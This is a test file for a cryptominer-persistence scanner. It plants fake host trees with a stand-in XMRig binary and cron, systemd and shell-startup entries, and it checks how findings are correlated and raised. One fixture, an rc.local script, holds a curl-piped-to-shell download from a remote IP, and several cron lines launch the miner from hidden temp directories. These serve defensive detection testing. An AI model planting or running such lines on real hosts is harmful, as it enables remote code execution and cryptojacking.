/**
 * The correlation pass: a persistence line linked both ways to the findings on the file
 * it starts, and raised when that file is flagged; on planted host trees scanned with
 * the real cron, path-rule and hash checks, and on hand-made findings for the chains
 * and severities no shipped check produces on its own yet.
 */
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { createHash } from 'node:crypto';
import { writeFile } from 'node:fs/promises';
import path from 'node:path';
import { makeScratchDir, removeScratchDir } from '../helpers/images.js';
import { builtinRules, scanDirectory, scanHostile } from '../helpers/scan-dir.js';
import { put } from '../helpers/planted-tree.js';
import { cronCheck } from '../../src/checks/cron.js';
import { servicesCheck } from '../../src/checks/services.js';
import { shellStartupCheck } from '../../src/checks/shell-startup.js';
import { indicatorPathsCheck } from '../../src/checks/indicator-paths.js';
import { hashLookupCheck } from '../../src/checks/hash-lookup.js';
import { loadHashLists } from '../../src/hashes/load-hash-list.js';
import { correlate, MALICIOUS_RULE, SUSPICIOUS_RULE } from '../../src/engine/correlate.js';
import { severityRank, type Finding } from '../../src/model/finding.js';
import { DirectoryFileSystem } from '../../mountfs/fs/dir/directory-fs.js';
import { RawVfs } from '../../mountfs/vfs.js';
import type { StartedFile } from '../../src/model/check.js';

const CHECKS = [cronCheck, indicatorPathsCheck, hashLookupCheck];

/** Stands in for an XMRig build: an ELF header and the strings a real one carries. */
const MINER_ELF = Buffer.concat([
  Buffer.from([0x7f, 0x45, 0x4c, 0x46, 2, 1, 1, 0]),
  Buffer.alloc(56),
  Buffer.from('\0XMRig 6.21.0\0donate-level\0stratum+tcp://pool.supportxmr.com:3333\0randomx\0'),
]);

const loud = (f: Finding) => severityRank(f.severity) >= severityRank('medium');

describe('correlation on planted trees', () => {
  let scratch: string;
  let hashList: string;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-correlate-');
    hashList = path.join(scratch, 'miners.sha256');
    await writeFile(hashList, `${createHash('sha256').update(MINER_ELF).digest('hex')}  Coinminer.Linux.XMRig\n`);
  });
  afterAll(async () => {
    if (scratch) await removeScratchDir(scratch);
  });

  it('raises an innocent-looking cron line whose target is a known miner, and links both ways', async () => {
    const root = path.join(scratch, 'backup');
    await put(root, 'etc/crontab', [
      'SHELL=/bin/sh',
      'PATH=/usr/local/sbin:/usr/local/bin:/sbin:/bin:/usr/sbin:/usr/bin',
      '',
      '17 *\t* * *\troot\tcd / && run-parts --report /etc/cron.hourly',
      '*/5 * * * * root /usr/local/bin/backup',
      '',
    ].join('\n'));
    await put(root, 'usr/local/bin/backup', MINER_ELF, 0o755);
    const hashes = await loadHashLists([hashList], { bundled: false });
    const { findings, errors } = await scanDirectory(root, CHECKS, hashes);
    expect(errors).toEqual([]);

    const onLine = findings.filter((f) => f.path === '/etc/crontab');
    expect(onLine.map((f) => [f.rule, f.severity, f.line])).toEqual([[MALICIOUS_RULE, 'critical', 5]]);
    const raised = onLine[0]!;
    expect(raised.category).toBe('persistence/correlation');
    expect(raised.evidence).toBe('*/5 * * * * root /usr/local/bin/backup');
    expect(raised.message).toBe(
      '/etc/crontab:5 starts /usr/local/bin/backup, which has a critical finding (hash.known-malware): ' +
        '/usr/local/bin/backup is Coinminer.Linux.XMRig: its digest is on the hash list ' + hashList,
    );
    expect(raised.remediation).toContain("sed -i '5d' /etc/crontab   # deletes line 5: */5 * * * * root /usr/local/bin/backup");
    expect(raised.remediation).toContain('rm -f /usr/local/bin/backup');
    expect(raised.related).toEqual({ starts: ['/usr/local/bin/backup'] });

    const miner = findings.filter((f) => f.path === '/usr/local/bin/backup');
    expect(miner.map((f) => [f.rule, f.severity])).toEqual([['hash.known-malware', 'critical']]);
    expect(miner[0]!.related).toEqual({ startedBy: ['/etc/crontab:5'] });
  });

  it('raises a line once although it starts two flagged files, and keeps its own finding linked', async () => {
    const root = path.join(scratch, 'twice');
    await put(root, 'etc/cron.d/sync', '* * * * * root /tmp/.x/xmrig -c /tmp/.x/c.json; /usr/local/bin/backup\n');
    await put(root, 'tmp/.x/xmrig', MINER_ELF, 0o755);
    await put(root, 'usr/local/bin/backup', MINER_ELF, 0o755);
    const hashes = await loadHashLists([hashList], { bundled: false });
    const { findings } = await scanDirectory(root, CHECKS, hashes);

    const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
    expect(raised.map((f) => [f.rule, f.path, f.line])).toEqual([[MALICIOUS_RULE, '/etc/cron.d/sync', 1]]);
    // The line's own findings (a miner started from /tmp) point at both files.
    const own = findings.filter((f) => f.path === '/etc/cron.d/sync' && !f.rule.startsWith('correlation.'));
    expect(own.length).toBeGreaterThan(0);
    for (const f of own) expect(f.related?.starts?.sort()).toEqual(['/tmp/.x/xmrig', '/usr/local/bin/backup']);
    // With its own finding, the line's removal is that finding's, not a bare sed.
    expect(raised[0]!.remediation).toContain(own.sort((a, b) => severityRank(b.severity) - severityRank(a.severity))[0]!.remediation.split('\n')[0]);
    for (const f of findings.filter((f) => f.path === '/tmp/.x/xmrig')) expect(f.related?.startedBy).toEqual(['/etc/cron.d/sync:1']);
  });

  it('raises a line whose target a path rule flags high (an XMRig name in a temporary directory)', async () => {
    const root = path.join(scratch, 'path-rule');
    await put(root, 'var/spool/cron/crontabs/www-data', '@reboot /var/tmp/.cache/xmrig --background\n');
    await put(root, 'var/tmp/.cache/xmrig', MINER_ELF, 0o755);
    const { findings } = await scanDirectory(root, CHECKS);
    const target = findings.filter((f) => f.path === '/var/tmp/.cache/xmrig');
    expect(target.map((f) => [f.rule, f.severity])).toContainEqual(['indicator.xmrig-binary-temp', 'high']);
    const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
    expect(raised.map((f) => [f.rule, f.severity, f.path, f.line])).toEqual([[MALICIOUS_RULE, 'critical', '/var/spool/cron/crontabs/www-data', 1]]);
    expect(raised[0]!.message).toContain('which has a high finding (indicator.xmrig-binary-temp)');
  });

  it("links but does not raise a package's own unit line that starts a flagged rc.local; a line in a conffile still counts", async () => {
    const root = path.join(scratch, 'packaged');
    const md5 = (text: string | Buffer) => createHash('md5').update(text).digest('hex');
    const unit = '[Unit]\nDescription=/etc/rc.local Compatibility\nConditionFileIsExecutable=/etc/rc.local\n\n[Service]\nType=forking\nExecStart=/etc/rc.local start\nTimeoutSec=0\n';
    const crontab = 'SHELL=/bin/sh\n*/5 * * * * root /usr/local/bin/backup\n';
    await put(root, 'usr/lib/systemd/system/rc-local.service', unit);
    await put(root, 'etc/systemd/system/multi-user.target.wants/.keep', '');
    await put(root, 'etc/rc.local', '#!/bin/sh\ncurl -fsSL http://203.0.113.7/x.sh | sh\nexit 0\n', 0o755);
    await put(root, 'etc/crontab', crontab);
    await put(root, 'usr/local/bin/backup', MINER_ELF, 0o755);
    await put(root, 'var/lib/dpkg/status', [
      'Package: systemd', 'Status: install ok installed', 'Architecture: amd64', 'Version: 252', '',
      'Package: cron', 'Status: install ok installed', 'Architecture: amd64', 'Version: 3.0', 'Conffiles:', ` /etc/crontab ${md5('old crontab')}`, '', '',
    ].join('\n'));
    await put(root, 'var/lib/dpkg/info/systemd.list', '/.\n/usr\n/usr/lib\n/usr/lib/systemd\n/usr/lib/systemd/system\n/usr/lib/systemd/system/rc-local.service\n');
    await put(root, 'var/lib/dpkg/info/systemd.md5sums', `${md5(unit)}  usr/lib/systemd/system/rc-local.service\n`);
    await put(root, 'var/lib/dpkg/info/cron.list', '/.\n/etc\n/etc/crontab\n');
    await put(root, 'var/lib/dpkg/info/cron.conffiles', '/etc/crontab\n');
    const hashes = await loadHashLists([hashList], { bundled: false });
    const { findings } = await scanDirectory(root, [cronCheck, servicesCheck, hashLookupCheck], hashes);

    const rcLocal = findings.filter((f) => f.path === '/etc/rc.local' && severityRank(f.severity) >= severityRank('high'));
    expect(rcLocal.length).toBeGreaterThan(0);
    const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
    expect(raised.map((f) => [f.path, f.line])).toEqual([['/etc/crontab', 2]]);
    for (const f of rcLocal) expect(f.related?.startedBy).toEqual(['/usr/lib/systemd/system/rc-local.service:7']);
  });

  it('links but does not raise a start-up line that only sources a flagged file; a line that runs the same file is raised', async () => {
    const root = path.join(scratch, 'sourced');
    // The sourced file is flagged critical (its digest is listed): what it runs is judged in it, not in every file that reads it.
    await put(root, 'etc/opt/monitor/env.sh', MINER_ELF, 0o755);
    await put(root, 'root/.bashrc', 'alias ll="ls -l"\n. /etc/opt/monitor/env.sh\n');
    await put(root, 'home/ops/.profile', 'export EDITOR=vi\nsource "/etc/opt/monitor/env.sh"\n/etc/opt/monitor/env.sh --daemon\n');
    await put(root, 'etc/passwd', 'root:x:0:0:root:/root:/bin/bash\nops:x:1000:1000::/home/ops:/bin/bash\n');
    const hashes = await loadHashLists([hashList], { bundled: false });
    const { findings } = await scanDirectory(root, [shellStartupCheck, hashLookupCheck], hashes);
    const target = findings.filter((f) => f.path === '/etc/opt/monitor/env.sh');
    expect(target.map((f) => [f.rule, f.severity])).toContainEqual(['hash.known-malware', 'critical']);
    expect(new Set(target.flatMap((f) => f.related?.startedBy ?? []))).toEqual(new Set(['/root/.bashrc:2', '/home/ops/.profile:2', '/home/ops/.profile:3']));
    const raised = findings.filter((f) => f.rule.startsWith('correlation.'));
    expect(raised.map((f) => [f.path, f.line, f.severity])).toEqual([['/home/ops/.profile', 3, 'critical']]);
  });

  it('gives nothing on an ordinary crontab whose jobs start unflagged files', async () => {
    const root = path.join(scratch, 'clean');
    await put(root, 'etc/crontab', [
      '*/5 * * * * root /usr/local/bin/backup',
      '*/10 * * * * root curl -fsS -m 10 --retry 5 -o /dev/null https://hc-ping.com/6f1a2c3d-1111-2222-3333-444455556666',
      '30 2 * * * root /usr/local/bin/find-miners',
      '',
    ].join('\n'));
    await put(root, 'usr/local/bin/backup', '#!/bin/sh\ntar czf - /srv | curl -fsS -T - https://backup.example.internal/upload\n', 0o755);
    await put(root, 'usr/local/bin/find-miners', '#!/bin/sh\npgrep -a xmrig && logger "xmrig is running"\n', 0o755);
    const hashes = await loadHashLists([hashList], { bundled: false });
    const { findings, errors } = await scanDirectory(root, CHECKS, hashes);
    expect(errors).toEqual([]);
    expect(findings.filter(loud)).toEqual([]);
    expect(findings.filter((f) => f.rule.startsWith('correlation.'))).toEqual([]);
  });

  it('stays quick and sane on a hostile crontab: thousands of lines, a huge line, binary junk', async () => {
    const root = path.join(scratch, 'hostile');
    const many = Array.from({ length: 5000 }, (_, i) => `* * * * * root /tmp/.x/xmrig --id ${i}`);
    await put(root, 'etc/cron.d/many', [...many, `* * * * * root /tmp/.x/xmrig ${'A'.repeat(2 << 20)}`, '\0\xff\x01binary\0'.repeat(1000)].join('\n'));
    await put(root, 'tmp/.x/xmrig', MINER_ELF, 0o755);
    const { findings } = await scanHostile(root, CHECKS, { maxOperations: 300_000 });
    const raised = findings.filter((f) => f.rule === MALICIOUS_RULE);
    // One per line, each line once.
    expect(new Set(raised.map((f) => f.line)).size).toBe(raised.length);
    expect(raised.length).toBeGreaterThanOrEqual(5000);
    for (const f of raised) expect(f.evidence.length).toBeLessThanOrEqual(501);
    const target = findings.find((f) => f.path === '/tmp/.x/xmrig')!;
    expect(target.related!.startedBy!.length).toBe(32);
  }, 120_000);
});

describe('correlation on hand-made findings', () => {
  let scratch: string;
  let vfs: RawVfs;

  beforeAll(async () => {
    scratch = await makeScratchDir('minescan-correlate-unit-');
    await put(scratch, 'etc/crontab', '# m h dom mon dow user command\n*/5 * * * * root /usr/local/bin/run.sh\n@reboot root /opt/tool/bin/helper\n');
    await put(scratch, 'usr/local/bin/run.sh', '#!/bin/sh\ncd /opt/tool\n/opt/tool/bin/helper --daemon\n', 0o755);
    await put(scratch, 'opt/tool/bin/helper', MINER_ELF, 0o755);
    await put(scratch, 'etc/systemd/system/helper.service', '[Service]\nExecStart=/opt/tool/bin/helper\n');
    vfs = new RawVfs(await DirectoryFileSystem.open(scratch));
  });
  afterAll(async () => {
    await vfs?.close();
    if (scratch) await removeScratchDir(scratch);
  });

  const flagged = (severity: Finding['severity']): Finding => ({
    rule: 'test.flagged',
    category: 'malware/miner',
    severity,
    path: '/opt/tool/bin/helper',
    message: 'helper looks like a miner',
    evidence: 'strings',
    remediation: 'rm -f /opt/tool/bin/helper',
    family: 'kinsing',
  });
  const STARTED: StartedFile[] = [
    { path: '/usr/local/bin/run.sh', startedBy: '/etc/crontab:2' },
    { path: '/opt/tool/bin/helper', startedBy: '/usr/local/bin/run.sh:3' },
    { path: '/opt/tool/bin/helper', startedBy: '/etc/crontab:3' },
    { path: '/opt/tool/bin/helper', startedBy: '/etc/systemd/system/helper.service:2' },
    { path: '/opt/tool/bin/helper', startedBy: 'run-parts /etc/cron.daily' },
    { path: '/usr/local/bin/run.sh', startedBy: '/usr/local/bin/run.sh:9' },
  ];

  it('follows a chain: cron line → script line → flagged binary, each line raised once', async () => {
    const findings = [flagged('high')];
    const added = await correlate(vfs, await builtinRules(), findings, STARTED);
    const where = (f: Finding) => `${f.path}:${f.line}`;
    expect(added.map((f) => [where(f), f.rule, f.severity]).sort()).toEqual(
      [
        ['/etc/crontab:2', MALICIOUS_RULE, 'critical'],
        ['/etc/crontab:3', MALICIOUS_RULE, 'critical'],
        ['/etc/systemd/system/helper.service:2', MALICIOUS_RULE, 'critical'],
        ['/usr/local/bin/run.sh:3', MALICIOUS_RULE, 'critical'],
      ].sort(),
    );
    const cronLine = added.find((f) => where(f) === '/etc/crontab:2')!;
    expect(cronLine.evidence).toBe('*/5 * * * * root /usr/local/bin/run.sh');
    expect(cronLine.message).toMatch(/^\/etc\/crontab:2 starts \/usr\/local\/bin\/run\.sh, which has a critical finding \(correlation\.persistence-starts-malicious\)/);
    expect(cronLine.family).toBe('kinsing');
    expect(cronLine.related).toEqual({ starts: ['/usr/local/bin/run.sh'] });
    const scriptLine = added.find((f) => where(f) === '/usr/local/bin/run.sh:3')!;
    expect(scriptLine.related).toEqual({ startedBy: ['/etc/crontab:2'], starts: ['/opt/tool/bin/helper'] });
    expect(findings[0]!.related).toEqual({ startedBy: ['/usr/local/bin/run.sh:3', '/etc/crontab:3', '/etc/systemd/system/helper.service:2'] });
    const unit = added.find((f) => f.path.endsWith('helper.service'))!;
    expect(unit.remediation).toContain("systemctl disable --now helper.service");
  });

  it('raises to high for a medium finding, along the whole chain, and not at all for low', async () => {
    const medium = await correlate(vfs, await builtinRules(), [flagged('medium')], STARTED);
    expect(new Set(medium.map((f) => `${f.rule} ${f.severity}`))).toEqual(new Set([`${SUSPICIOUS_RULE} high`]));
    expect(medium).toHaveLength(4);
    const low = [flagged('low')];
    expect(await correlate(vfs, await builtinRules(), low, STARTED)).toEqual([]);
    // Still linked: the analyst sees what starts a file whatever its severity.
    expect(low[0]!.related?.startedBy).toHaveLength(3);
  });

  it('prefers the worse of two started files and does not raise a line twice', async () => {
    const other: Finding = { ...flagged('critical'), path: '/usr/local/bin/run.sh', rule: 'test.other', message: 'run.sh is bad' };
    const added = await correlate(vfs, await builtinRules(), [flagged('medium'), other], [
      { path: '/opt/tool/bin/helper', startedBy: '/etc/crontab:2' },
      { path: '/usr/local/bin/run.sh', startedBy: '/etc/crontab:2' },
    ]);
    expect(added.map((f) => [f.rule, f.line, f.message.includes('(test.other)')])).toEqual([[MALICIOUS_RULE, 2, true]]);
  });

  it('links but does not repeat a line already reported at the severity it would be raised to', async () => {
    const onLine: Finding = { ...flagged('critical'), rule: 'test.line', path: '/etc/crontab', line: 3, message: 'the cron line is bad by itself' };
    const onScriptLine: Finding = { ...flagged('high'), rule: 'test.script-line', path: '/usr/local/bin/run.sh', line: 3, message: 'the script line is high' };
    const findings = [flagged('critical'), onLine, onScriptLine];
    const added = await correlate(vfs, await builtinRules(), findings, STARTED);
    // crontab:3 is critical already; run.sh:3 is only high, so it is raised, and crontab:2 with it.
    expect(added.map((f) => `${f.path}:${f.line}`).sort()).toEqual(['/etc/crontab:2', '/etc/systemd/system/helper.service:2', '/usr/local/bin/run.sh:3']);
    expect(onLine.related).toEqual({ starts: ['/opt/tool/bin/helper'] });
  });
});
